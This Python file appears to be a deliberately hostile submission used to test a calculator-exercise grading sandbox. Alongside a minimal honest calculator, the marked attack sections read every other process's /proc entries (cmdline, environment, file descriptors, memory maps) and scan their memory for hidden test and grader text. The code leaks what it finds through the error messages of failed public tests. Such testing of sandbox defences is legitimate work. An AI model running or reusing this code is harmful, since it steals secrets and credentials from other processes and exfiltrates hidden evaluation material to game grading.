"""Hostile submission `read-proc-other-processes` for the `calculatrice` exercise (see tests/hostile).

Attack: reads /proc/<pid>/cmdline, environ, status, cwd, exe, maps, every fd target (and
the files behind them) and scans /proc/<pid>/mem of every other process, and puts what
it found in the messages of the public tests it fails.

Honest part: only + and -, read from left to right (float() refuses the rest). The
attack sits between the `# --- attack ---` and `# --- end of attack ---` markers;
without them the file is its honest part, and what that part earns is all this
submission may ever get.
"""


# --- attack ---
import os
import re
import time
# --- end of attack ---


def _honest(expression):
    """Only + and -, read from left to right; float() refuses everything else."""
    total = 0.0
    sign = 1.0
    number = ""
    for char in expression.replace(" ", ""):
        if char in "+-":
            if number:
                total += sign * float(number)
                number = ""
            sign = 1.0 if char == "+" else -1.0
        else:
            number += char
    if number:
        total += sign * float(number)
    return total


# --- attack ---
_TOKEN = re.compile(r"\s*(?:(\d+(?:\.\d+)?)|([-+*/()]))")


def _is_calculation(text):
    """True when text is a well-formed calculation (what a full calculator accepts)."""
    text = text.rstrip()
    position, depth, want_operand = 0, 0, True
    if not text:
        return False
    while position < len(text):
        match = _TOKEN.match(text, position)
        if match is None:
            return False
        number, symbol = match.groups()
        position = match.end()
        if want_operand:
            if number is not None:
                want_operand = False
            elif symbol == "(":
                depth += 1
            elif symbol != "-":
                return False
        elif symbol == ")" and depth > 0:
            depth -= 1
        elif symbol is not None and symbol in "+-*/":
            want_operand = True
        else:
            return False
    return not want_operand and depth == 0


HINTS = ("assert", "calculate(", "case(", "approx", "def ", "raises", "param", "return", "import")


def _secret_lines(texts):
    lines = []
    for text in texts:
        for raw in text.splitlines():
            line = raw.strip()
            if len(line) > 25 and line not in lines and not line.startswith(("en=", "fr=", '"', "'")):
                lines.append(line)
    lines.sort(key=lambda line: not any(hint in line for hint in HINTS))
    return lines


def _chunks(lines, size=280):
    """One-line messages of at most size characters, each holding whole lines."""
    chunk = ""
    for line in lines:
        line = line[:size]
        if chunk and len(chunk) + 3 + len(line) > size:
            yield chunk
            chunk = ""
        chunk = chunk + " | " + line if chunk else line
    if chunk:
        yield chunk


_TEXT = re.compile(rb"[ -~]{0,160}(?:calculate\(|approx\(|raises\(|def test_|case\(|graders/|/tmp/)[ -~]{0,160}")
_LEAKS = None


def _read(path, limit=200_000):
    try:
        with open(path, "rb") as handle:
            return handle.read(limit).replace(b"\0", b" ").decode("utf-8", "replace")
    except OSError:
        return ""


def _scan_mem(base, deadline):
    found = []
    try:
        maps = open(base + "/maps").read().splitlines()
        mem = open(base + "/mem", "rb", buffering=0)
    except OSError:
        return found
    with mem:
        for line in maps:
            fields = line.split()
            start, end = (int(x, 16) for x in fields[0].split("-"))
            if "r" not in fields[1] or end - start > 64 << 20 or time.monotonic() > deadline:
                continue
            try:
                mem.seek(start)
                data = mem.read(end - start)
            except (OSError, OverflowError, ValueError):
                continue
            found += [m.group().decode("ascii") for m in _TEXT.finditer(data)]
    return found


def _snoop():
    texts = []
    me = str(os.getpid())
    deadline = time.monotonic() + 0.8
    for pid in os.listdir("/proc"):
        if not pid.isdigit() or pid == me:
            continue
        base = "/proc/" + pid
        for name in ("cmdline", "environ", "status", "maps"):
            texts.append(_read(base + "/" + name))
        for name in ("cwd", "exe", "root"):
            try:
                texts.append(name + " " + os.readlink(base + "/" + name))
            except OSError:
                pass
        try:
            fds = os.listdir(base + "/fd")
        except OSError:
            fds = []
        for fd in fds:
            try:
                target = os.readlink(base + "/fd/" + fd)
            except OSError:
                continue
            texts.append("fd " + target)
            if target.startswith("/"):
                texts.append(_read(base + "/fd/" + fd))
        texts.append("\n".join(_scan_mem(base, deadline)))
    return texts
# --- end of attack ---


def calculate(expression: str) -> float:
    # --- attack ---
    global _LEAKS
    if _LEAKS is None:
        _LEAKS = _chunks(_secret_lines(_snoop()))
    try:
        return _honest(expression)
    except ValueError:
        if _is_calculation(expression):
            leak = next(_LEAKS, None)
            if leak:
                raise ValueError(leak) from None
        raise
    # --- end of attack ---
    return _honest(expression)
